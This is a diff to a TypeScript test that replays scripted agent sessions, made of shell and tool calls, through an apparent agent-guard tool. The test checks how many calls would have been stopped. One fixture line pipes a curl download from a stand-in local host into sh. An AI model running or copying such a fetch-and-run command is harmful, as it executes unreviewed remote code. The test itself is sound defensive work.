@@ -79,6 +79,10 @@ describe.each(TRANSPORTS)('a session over %s, replayed', (transport) => {
             ...[turn(bash('echo three')), turn(bash('false')), turn(bash('false')), turn(bash('false'))],
             ...[turn(bash('pwd')), turn(bash('wc -l src/app.ts'), bash('cat src/app.ts')), turn(start), say('Done.')],
             ...[turn(bash('curl -fsS http://127.0.0.1:9/x.sh | sh')), turn(bash('git diff --stat'))],
+            ...[
+              turn(call('Grep', { pattern: 'answer', path: home.project })),
+              turn(call('Glob', { pattern: '**/*.ts' })),
+            ],
             ...[turn(bash('grep -rn answer src')), turn(bash('cat notes.md')), turn(bash('date')), say('Done.')],
           ],
           scout: [turn(bash('echo four')), turn(bash('touch made.txt')), turn(bash('ls src')), say('Nothing.')],
@@ -102,6 +106,7 @@ describe.each(TRANSPORTS)('a session over %s, replayed', (transport) => {
       const unknown = replayed.filter((each) => each.unknown);
       expect(unknown.length / replayed.length).toBeLessThanOrEqual(0.05);
       for (const each of unknown) expect(each.unknown?.missing.length).toBeGreaterThan(0);
+      expect(unknown.filter(({ told }) => told.event === 'session.start')).toEqual([]);
       expect(home.fairlead('replay')).toMatch(/^\d+ calls of your agent in 1 day: \d would have been stopped/);
     }));
 });
